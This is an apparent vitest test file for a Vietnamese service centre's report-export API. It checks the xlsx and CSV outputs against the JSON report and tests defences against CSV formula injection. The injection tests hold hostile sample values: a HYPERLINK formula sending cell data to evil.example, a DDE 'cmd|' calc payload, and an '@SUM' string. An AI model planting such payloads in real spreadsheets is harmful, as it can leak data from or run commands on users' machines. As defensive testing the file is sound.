// GET /api/v1/reports/export: the workbook and the CSV, read back (exceljs, a CSV parser), hold
// exactly the figures of the JSON report, under Vietnamese headings, with numbers as numbers.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../src/reports/export.ts';
import { expectError, expectOk } from './api-helpers.ts';
import { DAYS, type ReportScript, runReportScript } from './reports-fixture.ts';

let s: ReportScript;
let director: string;
let report: any;
let centreName: string;
const PERIOD = `from=${DAYS.mon}&to=${DAYS.thu}`;
const TITLE = 'Báo cáo từ ngày 10/03/2025 đến ngày 13/03/2025';

beforeAll(async () => {
  s = await runReportScript();
  director = await s.director();
  report = expectOk(await s.t.api('GET', `/api/v1/reports?${PERIOD}`, { token: director }));
  centreName = expectOk(await s.t.api('GET', '/api/v1/centre', { token: director })).centre.name;
});
afterAll(() => s.t.close());

async function download(query: string) {
  const res = await fetch(new URL(`/api/v1/reports/export?${query}`, s.t.url), {
    headers: { authorization: `Bearer ${director}` },
  });
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

const FIGURE_HEADINGS = [
  'Số phiếu đã cấp',
  'Đã phục vụ',
  'Vắng mặt',
  'Đã huỷ',
  'Hết hạn',
  'Chờ trung bình (phút)',
  'Chờ P90 (phút)',
  'Phục vụ trung bình (phút)',
  'Tỉ lệ đạt thời gian chờ mục tiêu',
  'Rất hài lòng',
  'Hài lòng',
  'Bình thường',
  'Không hài lòng',
  'Mức độ hài lòng',
];
const minutes = (seconds: number | null) => (seconds === null ? null : seconds / 60);
/** A figures row as the files should hold it: waits in minutes, ratings from "very satisfied" down. */
const figureValues = (f: any) => [
  f.issued,
  f.served,
  f.noShow,
  f.cancelled,
  f.expired,
  minutes(f.avgWaitSeconds),
  minutes(f.p90WaitSeconds),
  minutes(f.avgServiceSeconds),
  f.withinTargetShare,
  f.ratings['4'],
  f.ratings['3'],
  f.ratings['2'],
  f.ratings['1'],
  f.satisfiedShare,
];

/** Cell values of a row (1-based columns), empty cells as null. */
const rowValues = (ws: ExcelJS.Worksheet, n: number, columns: number) =>
  Array.from({ length: columns }, (_, i) => ws.getRow(n).getCell(i + 1).value ?? null);

function expectRow(actual: unknown[], expected: unknown[]): void {
  expect(actual).toHaveLength(expected.length);
  expected.forEach((want, i) => {
    if (typeof want === 'number' && !Number.isInteger(want)) {
      expect(typeof actual[i], `column ${i + 1}`).toBe('number');
      expect(actual[i] as number, `column ${i + 1}`).toBeCloseTo(want, 9);
    } else {
      expect(actual[i], `column ${i + 1}`).toEqual(want);
    }
  });
}

describe('GET /api/v1/reports/export', () => {
  it('xlsx: one sheet per breakdown, each row equal to the JSON report', async () => {
    const { res, bytes } = await download(`${PERIOD}&format=xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="bao-cao-2025-03-10_2025-03-13.xlsx"',
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'Tổng hợp',
      'Lĩnh vực',
      'Quầy',
      'Cán bộ',
      'Thủ tục',
      'Theo giờ',
      'Theo ngày',
      'Thời gian chờ',
    ]);
    for (const ws of wb.worksheets) {
      expect(ws.getCell('A1').value, ws.name).toBe(centreName);
      expect(ws.getCell('A2').value, ws.name).toBe(TITLE);
    }

    const summary = wb.getWorksheet('Tổng hợp')!;
    expect(rowValues(summary, 4, 2)).toEqual(['Số ngày', 4]);
    expect(rowValues(summary, 5, 2)).toEqual(['Thời gian chờ mục tiêu (phút)', 15]);
    const totals = figureValues(report.totals);
    for (const [i, heading] of FIGURE_HEADINGS.entries()) {
      expectRow(rowValues(summary, 6 + i, 2), [heading, totals[i]]);
    }
    expect(summary.getCell('B11').numFmt).toBe('0.0'); // average wait in minutes
    expect(summary.getCell('B14').numFmt).toBe('0.0%'); // within target

    const table = (name: string, headings: string[], rows: unknown[][]) => {
      const ws = wb.getWorksheet(name)!;
      expect(rowValues(ws, 4, headings.length), name).toEqual(headings);
      for (const [i, row] of rows.entries()) expectRow(rowValues(ws, 5 + i, headings.length), row);
      expect(ws.getRow(5 + rows.length).getCell(1).value ?? null, `${name}: no more rows`).toBeNull();
    };
    expect(report.byService).toHaveLength(3);
    table(
      'Lĩnh vực',
      ['Lĩnh vực', ...FIGURE_HEADINGS],
      [...report.byService.map((r: any) => [r.name, ...figureValues(r)]), ['Tổng cộng', ...totals]],
    );
    table(
      'Quầy',
      ['Quầy', 'Tên quầy', ...FIGURE_HEADINGS],
      report.byCounter.map((r: any) => [r.number, r.name, ...figureValues(r)]),
    );
    table(
      'Cán bộ',
      ['Cán bộ', ...FIGURE_HEADINGS],
      report.byOfficer.map((r: any) => [r.displayName, ...figureValues(r)]),
    );
    const serviceName = new Map(report.byService.map((r: any) => [r.serviceId, r.name]));
    table(
      'Thủ tục',
      ['Thủ tục', 'Lĩnh vực', 'Số lượt giải quyết'],
      report.byProcedure.map((p: any) => [p.name, serviceName.get(p.serviceId), p.count]),
    );
    table(
      'Theo giờ',
      ['Giờ', 'Số phiếu đã cấp', 'Đã phục vụ', 'Chờ trung bình (phút)'],
      report.byHour.map((h: any) => [h.hour, h.issued, h.served, minutes(h.avgWaitSeconds)]),
    );
    table(
      'Theo ngày',
      ['Ngày', 'Số phiếu đã cấp', 'Đã phục vụ', 'Vắng mặt', 'Chờ trung bình (phút)'],
      report.byDay.map((d: any) => [
        `${d.date.slice(8)}/${d.date.slice(5, 7)}/${d.date.slice(0, 4)}`,
        d.issued,
        d.served,
        d.noShow,
        minutes(d.avgWaitSeconds),
      ]),
    );
    table(
      'Thời gian chờ',
      ['Thời gian chờ (phút)', 'Số phiếu'],
      [
        ['0–5', 2],
        ['5–10', 3],
        ['10–15', 0],
        ['15–20', 0],
        ['20–30', 1],
        ['30–45', 0],
        ['45–60', 0],
        ['60 trở lên', 2],
      ],
    );
  });

  it('csv: UTF-8 with a BOM, the title, then fields and the totals, numbers as plain numbers', async () => {
    const { res, bytes } = await download(`${PERIOD}&format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="bao-cao-2025-03-10_2025-03-13.csv"',
    );
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(rows.slice(0, 4)).toEqual([[centreName], [TITLE], [''], ['Lĩnh vực', ...FIGURE_HEADINGS]]);
    const expected = [
      ...report.byService.map((r: any) => [r.name, ...figureValues(r)]),
      ['Tổng cộng', ...figureValues(report.totals)],
    ];
    expect(rows.slice(4)).toHaveLength(expected.length);
    rows.slice(4).forEach((row, i) => {
      const want = expected[i]!;
      expect(row[0]).toBe(want[0]);
      want.slice(1).forEach((value: number | null, j: number) => {
        if (value === null) expect(row[j + 1]).toBe('');
        else expect(Number(row[j + 1])).toBeCloseTo(value, 3);
      });
    });
  });

  it('defaults to xlsx; bad format or period is 400; officers and devices get 403', async () => {
    const { res } = await download(PERIOD);
    expect(res.headers.get('content-type')).toMatch(/spreadsheetml/);
    expectError(
      await s.t.api('GET', `/api/v1/reports/export?${PERIOD}&format=pdf`, { token: director }),
      400,
      'validation_failed',
      /^format: /,
    );
    expectError(
      await s.t.api('GET', `/api/v1/reports/export?from=${DAYS.thu}&to=${DAYS.mon}`, { token: director }),
      400,
      'validation_failed',
      /^to: must not be before from/,
    );
    for (const token of [await s.officer(), s.devices.kiosk, s.devices.display]) {
      expectError(await s.t.api('GET', `/api/v1/reports/export?${PERIOD}`, { token }), 403, 'forbidden');
    }
  });
});

describe('names that look like spreadsheet formulas (CSV injection)', () => {
  const HOSTILE = {
    hotich: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    chungthuc: "+1+cmd|' /C calc'!A0",
    datdai: '-2+3',
  } as const;
  const CENTRE = '@SUM(1+1)*cmd';

  it('the CSV writes them as text behind a leading quote; the workbook as plain strings, never formulas', async () => {
    const admin = await s.t.login();
    const put = async (path: string, body: unknown) =>
      expectOk(await s.t.api('PUT', path, { token: admin, body }));
    const services = expectOk(await s.t.api('GET', '/api/v1/admin/services', { token: admin })).services;
    const before = new Map<string, string>(
      services.filter((f: any) => f.id in HOSTILE).map((f: any) => [f.id, f.name]),
    );
    expect(before.size).toBe(3);
    try {
      for (const [id, name] of Object.entries(HOSTILE)) await put(`/api/v1/services/${id}`, { name });
      await put('/api/v1/centre', { name: CENTRE });
      const named = expectOk(await s.t.api('GET', `/api/v1/reports?${PERIOD}`, { token: director }));
      const hostileNames = named.byService
        .map((r: any) => r.name)
        .filter((n: string) => Object.values(HOSTILE).includes(n as never));
      expect(hostileNames.length).toBeGreaterThanOrEqual(2);

      const csv = await download(`${PERIOD}&format=csv`);
      const rows = parseCsv(csv.bytes.subarray(3).toString('utf8'));
      expect(rows[0]).toEqual([`'${CENTRE}`]);
      const names = rows.slice(4).map((r) => r[0]);
      for (const name of hostileNames) expect(names).toContain(`'${name}`);
      for (const cell of rows.flat()) expect(cell, 'no cell may start a formula').not.toMatch(/^[=+\-@\t\r]/);
      // The figures are still numbers, not quoted text.
      for (const row of rows.slice(4))
        for (const cell of row.slice(1)) expect(cell).toMatch(/^(\d+(\.\d+)?)?$/);

      const xlsx = await download(`${PERIOD}&format=xlsx`);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsx.bytes as unknown as ExcelJS.Buffer);
      for (const ws of wb.worksheets) {
        const a1 = ws.getCell('A1');
        expect(a1.type, ws.name).toBe(ExcelJS.ValueType.String);
        expect(a1.value, ws.name).toBe(CENTRE);
      }
      const fields = wb.getWorksheet('Lĩnh vực')!;
      const cells = fields.getColumn(1).values.length;
      const found: string[] = [];
      for (let n = 5; n < cells; n++) {
        const cell = fields.getCell(n, 1);
        expect(cell.type, `A${n}`).toBe(ExcelJS.ValueType.String);
        expect(cell.formula, `A${n}`).toBeUndefined();
        found.push(String(cell.value));
      }
      for (const name of hostileNames) expect(found).toContain(name);
    } finally {
      for (const [id, name] of before) await put(`/api/v1/services/${id}`, { name });
      await put('/api/v1/centre', { name: centreName });
    }
  });

  it('only text gets the quote: negative numbers stay numbers', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+84 90')).toBe("'+84 90");
    expect(csvCell('-3')).toBe("'-3");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('＝1+1')).toBe("'＝1+1");
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell('Hộ tịch - Chứng thực')).toBe('Hộ tịch - Chứng thực');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(null)).toBe('');
  });
});

/** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks; lines end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}
